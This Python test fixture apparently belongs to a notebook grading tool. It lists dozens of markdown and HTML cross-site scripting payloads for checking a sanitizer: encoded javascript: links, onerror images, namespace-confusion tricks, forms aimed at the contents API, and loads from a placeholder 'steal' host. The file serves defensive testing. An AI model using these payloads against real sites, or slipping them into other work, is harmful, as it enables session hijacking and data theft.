"""Markdown that tries to run script in the page that shows it, to load something, or to lead the reader elsewhere.

`N` stands for a number of the payload's own: whatever runs calls `top.hits.push(N)`.
"""

PAYLOADS = {
    # links
    "javascript link": "[the plot](javascript:top.hits.push(N))",
    "javascript link in mixed case": "[the plot](JaVaScRiPt:top.hits.push(N))",
    "javascript link in angle brackets": "[the plot](<javascript:top.hits.push(N)>)",
    "javascript link behind a space": "[the plot](< javascript:top.hits.push(N)>)",
    "javascript link with an entity": "[the plot](javascript&colon;top.hits.push(N))",
    "javascript link with a numeric entity": "[the plot](&#106;avascript:top.hits.push(N))",
    "javascript link with a tab": "[the plot](java&#9;script:top.hits.push(N))",
    "javascript link with a line end": "[the plot](java&#10;script:top.hits.push(N))",
    "javascript link behind a control character": "[the plot](&#1;javascript:top.hits.push(N))",
    "javascript link behind the files prefix": "[the plot](files/javascript:top.hits.push(N))",
    "javascript link behind the files prefix, as a tag": '<a href="/files/javascript:top.hits.push(N)">the plot</a>',
    "javascript autolink": "<javascript:top.hits.push(N)>",
    "javascript by reference": "[the plot][ref]\n\n[ref]: javascript:top.hits.push(N)",
    "javascript link around a picture": "[![x](data:image/png;base64,AAAA)](javascript:top.hits.push(N))",
    "vbscript link": "[the plot](vbscript:top.hits.push(N))",
    "data link": "[the plot](data:text/html;base64,PHNjcmlwdD50b3AuaGl0cy5wdXNoKE4pPC9zY3JpcHQ+)",
    "link that logs the reader out": "[the plot](/logout)",
    "link that makes formgrader load a configuration": "[the plot](/formgrader?path=submitted/mallory/90_toy)",
    "link to a page next to the notebook": "[the plot](evil.html)",
    "link to another site": "[the plot](https://example.invalid/steal)",
    "link without a scheme": "[the plot](//example.invalid/steal)",
    "bare address": "https://example.invalid/steal",
    "title that ends its attribute": '[the plot](#x "a\\" onmouseover=\\"top.hits.push(N)")',
    "address that ends its attribute": '[the plot](<#x" onmouseover="top.hits.push(N)>)',
    "link as a tag": '<a href="javascript:top.hits.push(N)">the plot</a>',
    "link with a target of its own": '<a href="javascript:top.hits.push(N)" target="_top">the plot</a>',
    "link that pings": '<a href="#x" ping="https://example.invalid/steal">the plot</a>',
    # pictures
    "picture that fails to load": "<img src=x onerror=top.hits.push(N)>",
    "picture without quotes or spaces": "<img/src=x/onerror=top.hits.push(N)>",
    "picture with two sources": '<img src="x" srcset="https://example.invalid/steal" onerror="top.hits.push(N)">',
    "picture from another site": "![x](https://example.invalid/steal.png)",
    "picture of the server's own": "![x](/logout)",
    "picture of svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5oaXRzLnB1c2goTikiPjwvc3ZnPg==)",
    "picture text that ends its attribute": '![" onerror="top.hits.push(N)](data:image/png;base64,AAAA)',
    "picture data that ends its attribute": '![x](<data:image/png;base64,AAAA" onerror="top.hits.push(N)>)',
    "attachment that is missing": "![x](attachment:none.png)",
    # tags
    "script": "<script>top.hits.push(N)</script>",
    "script in the midst of a line": "text <script>top.hits.push(N)</script> text",
    "script in pieces": "<scr<script>ipt>top.hits.push(N)</scr</script>ipt>",
    "script from elsewhere": "<script src=https://example.invalid/steal.js></script>",
    "svg": "<svg onload=top.hits.push(N)></svg>",
    "svg animation": "<svg><animate onbegin=top.hits.push(N) attributeName=x dur=1s></animate></svg>",
    "svg link": '<svg><a xlink:href="javascript:top.hits.push(N)"><text y="20">the plot</text></a></svg>',
    "svg script": "<svg><script>top.hits.push(N)</script></svg>",
    "mathml link": '<math><mtext href="javascript:top.hits.push(N)">the plot</mtext></math>',
    "mathml namespace confusion": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hits.push(N)&gt;">'
    ),
    "svg namespace confusion": '<svg><p><style><g title="</style><img src=x onerror=top.hits.push(N)>">',
    "noscript confusion": '<noscript><p title="</noscript><img src=x onerror=top.hits.push(N)>"></noscript>',
    "title confusion": '<title><a title="</title><img src=x onerror=top.hits.push(N)>"></title>',
    "textarea confusion": '<textarea><a title="</textarea><img src=x onerror=top.hits.push(N)>">',
    "comment that ends early": "<!--><img src=x onerror=top.hits.push(N)>-->",
    "comment that ends with a bang": "<!-- --!><img src=x onerror=top.hits.push(N)> -->",
    "cdata": "<![CDATA[<img src=x onerror=top.hits.push(N)>]]>",
    "processing instruction": "<?x ><img src=x onerror=top.hits.push(N)>?>",
    "unclosed tag": "<img src=x onerror=top.hits.push(N) ",
    "iframe": "<iframe src=javascript:top.hits.push(N)></iframe>",
    "iframe with a document": "<iframe srcdoc='<script>top.hits.push(N)</script>'></iframe>",
    "object": "<object data=javascript:top.hits.push(N)></object>",
    "embed": "<embed src=javascript:top.hits.push(N)>",
    "form": "<form action=javascript:top.hits.push(N)><button>the plot</button></form>",
    "button of another form": '<button formaction="javascript:top.hits.push(N)" form="x">the plot</button>',
    "form to the contents API": '<form method=post action="/api/contents"><button>the plot</button></form>',
    "details": "<details open ontoggle=top.hits.push(N)><summary>the plot</summary>x</details>",
    "focus": "<input autofocus onfocus=top.hits.push(N)>",
    "video": "<video><source onerror=top.hits.push(N)></video>",
    "audio": "<audio src=x onerror=top.hits.push(N)></audio>",
    "marquee": "<marquee onstart=top.hits.push(N)>the plot</marquee>",
    "mouse": "<b onmouseover=top.hits.push(N)>the plot</b>",
    "end of an animation": (
        "<style>@keyframes x{}</style><b style='animation:x 1ms' onanimationend=top.hits.push(N)>the plot</b>"
    ),
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://example.invalid/steal">',
    "base": '<base href="https://example.invalid/">\n\n[the plot](#x)',
    "stylesheet": "<style>@import 'https://example.invalid/steal.css'; body { display: none }</style>",
    "stylesheet link": '<link rel="stylesheet" href="https://example.invalid/steal.css">',
    "style attribute": "<div style='background:url(https://example.invalid/steal.png);position:fixed;inset:0'>x</div>",
    "template": "<template><img src=x onerror=top.hits.push(N)></template>",
    "shadow root": "<div><template shadowrootmode=open><img src=x onerror=top.hits.push(N)></template></div>",
    # what markdown makes of other things
    "language of a code block": '```x"><img/src=x/onerror=top.hits.push(N)>\ncode\n```',
    "diagram": "```mermaid\n</pre><img src=x onerror=top.hits.push(N)>\n```",
    "formula": "$$</p><img src=x onerror=top.hits.push(N)>$$",
    "name of an environment": "\\begin{a}<img src=x onerror=top.hits.push(N)>\\end{a}",
    "link in a formula": "$\\href{javascript:top.hits.push(N)}{x}$",
    "html in a formula": "$\\unicode{<img src=x onerror=top.hits.push(N)>}$",
    "heading with a tag": "# <img src=x onerror=top.hits.push(N)>",
    "heading that ends its attribute": '# a" onmouseover="top.hits.push(N)" b="',
    "table": "|a|\n|-|\n|<img src=x onerror=top.hits.push(N)>|\n",
    "definition": "term\n: <img src=x onerror=top.hits.push(N)>",
    # names that the page's own scripts use
    "heading called like a score": "# mean_test",
    "heading called like a global": "# submission_id",
    "anchor called like a global": '<a id="MathJax" name="formgrader">the plot</a>',
    "form called like a function": "<form id=fetch><input name=attributes></form>",
}
"""By what each tries."""


def numbered() -> list[str]:
    """The payloads in order, each with its own number in the place of `N`."""
    return [text.replace("(N)", f"({number})") for number, text in enumerate(PAYLOADS.values())]
